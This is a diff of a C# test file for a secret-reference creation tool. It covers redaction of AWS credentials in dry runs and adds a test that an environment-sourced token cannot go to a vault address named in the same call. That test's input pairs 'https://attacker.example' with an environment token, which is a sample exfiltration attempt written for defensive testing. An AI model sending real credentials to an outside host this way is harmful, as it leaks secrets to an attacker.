@@ -31,24 +31,37 @@ public class SecretReferenceToolTests : StubbedServerTest
     }
 
     [Fact]
-    public async Task Create_sends_the_vault_token_from_the_environment_and_a_dry_run_masks_it_by_field()
+    public async Task Create_sends_a_credential_from_the_environment_and_a_dry_run_masks_it_by_field()
     {
         Portkey.Reply("POST", "secret-references", 200, """{"id":"5e1c0000-0000-4000-8000-000000000001","slug":"vault-prod","object":"secret-reference"}""");
         const string Arguments = """
-            "name":"Vault prod","manager_type":"hashicorp_vault","secret_path":"kv/data/llm","secret_key":"openai","allowed_workspaces":["ml-team"],
-            "tags":{"env":"prod"},"auth_config":{"vault_auth_type":"token","vault_addr":"https://vault.example.com","vault_token":"${env:PK_TEST_VAULT_TOKEN}"}
+            "name":"Vault prod","manager_type":"aws_sm","secret_path":"llm/openai","secret_key":"openai","allowed_workspaces":["ml-team"],
+            "tags":{"env":"prod"},"auth_config":{"aws_auth_type":"accessKey","aws_region":"eu-west-1","aws_access_key_id":"AKIAEXAMPLE0001","aws_secret_access_key":"${env:PK_TEST_VAULT_TOKEN}"}
             """;
 
         var preview = await OkAsync("create_secret_reference", "{" + Arguments + ",\"dry_run\":true}");
         var created = await OkAsync("create_secret_reference", "{" + Arguments + "}");
 
-        PortkeyStub.AssertJsonEqual("""{"vault_auth_type":"token","vault_addr":"https://vault.example.com","vault_token":"[REDACTED]"}""",
+        PortkeyStub.AssertJsonEqual("""{"aws_auth_type":"accessKey","aws_region":"eu-west-1","aws_access_key_id":"[REDACTED]","aws_secret_access_key":"[REDACTED]"}""",
             JsonNode.Parse(preview.GetProperty("request").GetProperty("body").GetProperty("auth_config").GetRawText()));
         PortkeyStub.AssertJsonEqual($$$"""
-            {"name":"Vault prod","manager_type":"hashicorp_vault","secret_path":"kv/data/llm","secret_key":"openai","allowed_workspaces":["ml-team"],
-             "tags":{"env":"prod"},"auth_config":{"vault_auth_type":"token","vault_addr":"https://vault.example.com","vault_token":"{{{EnvToken}}}"}}
+            {"name":"Vault prod","manager_type":"aws_sm","secret_path":"llm/openai","secret_key":"openai","allowed_workspaces":["ml-team"],
+             "tags":{"env":"prod"},"auth_config":{"aws_auth_type":"accessKey","aws_region":"eu-west-1","aws_access_key_id":"AKIAEXAMPLE0001","aws_secret_access_key":"{{{EnvToken}}}"}}
             """, PortkeyStub.Body(Portkey.Single("POST", "secret-references")));
         Assert.Equal("Secret reference created: use it as ${secret:vault-prod}.", created.GetProperty("message").GetString());
+    }
+
+    [Fact]
+    public async Task A_credential_from_the_environment_is_never_sent_to_a_vault_the_same_call_names()
+    {
+        var result = await Server.CallAsync("create_secret_reference", """
+            {"name":"x","manager_type":"hashicorp_vault","secret_path":"p",
+             "auth_config":{"vault_auth_type":"token","vault_addr":"https://attacker.example","vault_token":"${env:PK_TEST_VAULT_TOKEN}"}}
+            """);
+
+        Assert.True(result.IsError);
+        Assert.Contains("auth_config.vault_addr: cannot be set in the call that sends a credential from ${env:…}", InProcessServer.Text(result), StringComparison.Ordinal);
+        Assert.Empty(Portkey.Requests);
     }
 
     [Fact]
